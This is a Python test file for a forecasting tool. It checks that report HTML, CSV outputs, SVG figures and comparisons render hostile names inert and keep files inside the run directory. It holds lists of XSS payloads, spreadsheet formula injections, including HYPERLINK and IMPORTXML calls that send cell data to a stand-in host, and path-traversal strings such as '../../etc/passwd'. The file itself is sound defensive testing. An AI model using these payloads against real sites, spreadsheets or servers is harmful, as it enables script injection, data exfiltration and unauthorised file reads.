"""No name, time, word, label, message, option or directory comes alive in what a run leaves behind.

Thirty strings that browsers have been seen to run, twelve that spreadsheets have, and ten that
lead out of a directory, in every place where a name can stand.
"""

import csv
import re
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import numpy as np
import pytest
from test_compare import finished
from test_report import made
from test_symbols_report import left_behind, messages, some_labels, told, told_labels, words

from forecast.cli import main
from forecast.compare import compare
from forecast.distribution.t4 import LEVELS
from forecast.report import Report
from forecast.report.drawing import legend, name_of, panels, rendered, styled, time_axis
from forecast.report.verdict import shown_name

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.example/a.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><svg/onload=alert(1)>",
    "</text></g></svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<use href='data:image/svg+xml,<svg onload=alert(1)>'/>",
    "<foreignObject><iframe src=javascript:alert(1)></foreignObject>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//x.example/>",
    '" onmouseover="alert(1)" x="',
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;\x00<\u202escript>",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"more")',
    '=IMPORTXML(CONCAT("http://x.example",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '",=1+1,"',
    "1\r\n=1+1",
]
PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..",
    "next.png/../../x",
    "file:///etc/passwd",
    "scores.json\x00.png",
]
NAMES = SCRIPTS + FORMULAS + PATHS
HARMLESS = "harmless"
FILES = {"forecast.csv", "predictions.csv", "scores.json", "report.html"}  # of a run undrawn


def test_there_are_as_many_as_were_promised() -> None:
    assert [len(set(some)) for some in (SCRIPTS, FORMULAS, PATHS)] == [30, 12, 10]


class Alive(HTMLParser):
    """What a browser would make of a page: its elements with their attributes, and their text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.styles: list[str] = []
        self.scripts: list[str] = []
        self.inside = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        values = dict(attrs)
        self.addresses += [values[name] or "" for name in ("href", "src") if name in values]
        if "style" in values:
            self.styles.append(values["style"] or "")

    def handle_data(self, data: str) -> None:
        if self.inside in ("script", "style"):
            self.scripts.append(data)
        self.inside = ""

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", ()))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("declaration", ()))


def same_page(html: str, harmless: str) -> None:
    """The same elements with the same attributes as of harmless names, and the same scripts."""
    page, usual = Alive(html), Alive(harmless)
    assert page.elements == usual.elements
    assert page.scripts == usual.scripts
    assert len(page.addresses) == len(usual.addresses)
    inside = re.compile(r"#[a-z0-9-]+|data:image/png;base64,[A-Za-z0-9+/=\s]+")
    assert all(inside.fullmatch(address) for address in page.addresses)
    assert not any("url(" in style.replace("url(#", "") for style in page.styles)
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e]", html)  # nothing that hides


def same_cells(path: Path, harmless: Path) -> None:
    """As many rows and cells as of harmless names, none of them a formula to a spreadsheet."""
    with path.open(encoding="utf-8", newline="") as file, harmless.open(newline="") as usual:
        rows, others = list(csv.reader(file)), list(csv.reader(usual))
    assert [len(row) for row in rows] == [len(row) for row in others]
    for cell in (cell for row in rows for cell in row):
        number = re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)
        assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


def contained(out: Path) -> None:
    """No file but those of a run, inside its directory and beside it."""
    assert {path.name for path in out.iterdir()} == FILES
    assert list(out.parent.iterdir()) == [out]


def numbers(name: str, out: Path) -> None:
    """A run of numbers in which everything is called so."""
    ahead = [0.0] * len(LEVELS)
    with Report(out, [name, f"{name}2"], (1, 2), season=0) as report:
        report.add(made(40, 2, (1, 2), 12), lambda row: name)
        facts = {
            "source": name,
            "command": name,
            "rows": 40,
            "bad_rows": {name: 3},
            "options": {"target": [name], "missing": name, name: name},
            "guessed": [name],
            "versions": {name: name},
            "values": {name: {"observed": 1, "missing": 0, "refused": 0}},
        }
        report.finish([(name, series, 1, 0.0, ahead) for series in (name, f"{name}2")], facts)


def a_text(name: str, out: Path) -> None:
    """A run over a text of such words."""
    block = words([name.encode()] * 60)
    likely = [(name, 0.5), (" the", 0.25)]
    how = {"top": lambda row: likely, "coming": likely, "source": name}
    left_behind(out, block, told(block), **how)


def a_mailbox(name: str, out: Path) -> None:
    """A run over such messages with such labels."""
    p, y = some_labels(60)
    names = (name, f"{name}2")
    block = messages([name.encode()] * 60, y)
    how = {"coming": [(name, 0.9), (names[1], 0.1)], "source": name}
    left_behind(out, block, told_labels(p, y), names, **how)


KINDS: dict[str, Callable[[str, Path], None]] = {
    "numbers": numbers,
    "words": a_text,
    "labels": a_mailbox,
}


@pytest.fixture
def undrawn(monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave the drawing out, which takes most of the time; figures have a test of their own."""
    for drawn in ("plots.drawings", "confusion.confusions", "symbols.plots.drawings"):
        monkeypatch.setattr(f"forecast.report.{drawn}", lambda *_: [])
    monkeypatch.setattr("forecast.report.side_by_side.drawings", lambda record: [])


@cache
def harmless(kind: str, size: int = len(HARMLESS)) -> TemporaryDirectory[str]:
    """What a run leaves behind in which everything has a harmless name of so many bytes."""
    kept = TemporaryDirectory()
    KINDS[kind]((HARMLESS * size)[:size], Path(kept.name) / "out")
    return kept


@pytest.mark.usefixtures("undrawn")
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", NAMES)
def test_no_name_is_alive_in_a_run(tmp_path: Path, kind: str, name: str) -> None:
    # passages of a text have as many words as there is room for
    size = len(name.encode()) if kind == "words" else len(HARMLESS)
    out, usual = tmp_path / "out", Path(harmless(kind, size).name) / "out"
    KINDS[kind](name, out)
    same_page(*((one / "report.html").read_text(encoding="utf-8") for one in (out, usual)))
    for file in ("forecast.csv", "predictions.csv"):
        same_cells(out / file, usual / file)
    contained(out)


def test_no_name_is_alive_in_a_figure() -> None:
    drawn, usual = figure(NAMES), figure([HARMLESS] * len(NAMES))
    # where the names are longer the panels are narrower, and fewer lines are drawn in them
    assert set(Alive(drawn).elements) <= {*Alive(usual).elements, ("path", ("style",))}
    assert Alive(drawn).scripts == Alive(usual).scripts
    shown = "".join(texts(drawn))
    assert all(shown_name(name, 20) in shown for name in NAMES)


def figure(names: Sequence[str]) -> str:
    """A figure with the names in the places where the figures of a report have one."""
    with styled():
        whole, axes = panels(len(names) // 6 + 1, 1.0)
        for k, name in enumerate(names):
            panel = axes[k // 6]
            panel.plot([0.0, 1.0], [0.0, k], label=shown_name(name, 20))
            panel.set_title(name_of(name, 1, False))
            panel.set_ylabel(shown_name(name, 20))
        for k, panel in enumerate(axes):
            time_axis(panel, list(enumerate(names[6 * k : 6 * k + 2])))
            legend(whole, panel)
        return rendered("next", "The next values", "", whole).svg


def texts(svg: str) -> Iterator[str]:
    """What stands in a figure, as it is read."""
    for written in re.findall(r"<text[^>]*>([^<]*)</text>", svg):
        yield unescape(written)


def set_beside(name: str, out: Path) -> dict[str, Any]:
    """Two runs in which everything is called so, in directories as near to it as can be."""
    called = re.sub(r"[/\x00]", "∕", name).strip(".") or "∕"
    off = {(series, 1): np.random.default_rng(1).normal(size=80) for series in (name, f"2{name}")}
    told = {"source": name, "command": name, "options": {"target": name, name: name}}
    runs = [
        finished(out.parent.parent / "runs" / f"{called}{k}", off, time=lambda _: name, **told)
        for k in range(2)
    ]
    return compare([str(run) for run in runs], ["mae"], out, command=name)


@cache
def harmless_comparison() -> TemporaryDirectory[str]:
    """A comparison in which everything has a harmless name."""
    kept = TemporaryDirectory()
    set_beside(HARMLESS, Path(kept.name) / "here" / "out")
    return kept


@pytest.mark.usefixtures("undrawn")
@pytest.mark.parametrize("name", NAMES)
def test_no_name_is_alive_in_a_comparison(tmp_path: Path, name: str) -> None:
    out, usual = tmp_path / "here" / "out", Path(harmless_comparison().name) / "here" / "out"
    record = set_beside(name, out)
    assert {entry["series"] for entry in record["comparisons"]} == {name, f"2{name}"}
    same_page(*((one / "compare.html").read_text(encoding="utf-8") for one in (out, usual)))
    assert {path.name for path in out.iterdir()} == {"compare.json", "compare.html"}
    assert list(out.parent.iterdir()) == [out]


def asked_for(name: str, folder: Path) -> Path:
    """A run of the command in which file, columns, times and options are called so."""
    called = re.sub(r"[/\x00\r\n]", "∕", name)
    clean = re.sub(r"[\x00\r\n]", " ", name)
    folder.mkdir()
    source, out = folder / f"{called}.csv", folder / "out"
    with source.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["when", clean, f"{clean}2"])
        writer.writerows([clean, k % 7, k] for k in range(60))
    columns = [f"--target={clean}", f"--known={clean}2"]
    options = ["--time=when", "--step=rows", f"--missing={clean}", "--quiet", f"--out={out}"]
    assert main(["run", str(source), *columns, *options]) == 0
    return out


def test_no_name_is_alive_from_the_command_line(tmp_path: Path) -> None:
    everything = FORMULAS[0] + SCRIPTS[6] + SCRIPTS[28]
    out, usual = (asked_for(name, tmp_path / k) for k, name in (("a", everything), ("b", HARMLESS)))
    same_page(*((one / "report.html").read_text(encoding="utf-8") for one in (out, usual)))
    for file in ("forecast.csv", "predictions.csv"):
        same_cells(out / file, usual / file)
    assert {path.name for path in out.iterdir()} == FILES | {"figures"}
    assert all(re.fullmatch(r"[a-z]+\d?\.png", path.name) for path in (out / "figures").iterdir())
    assert len(list(out.parent.iterdir())) == 2  # the file, and what the run has left
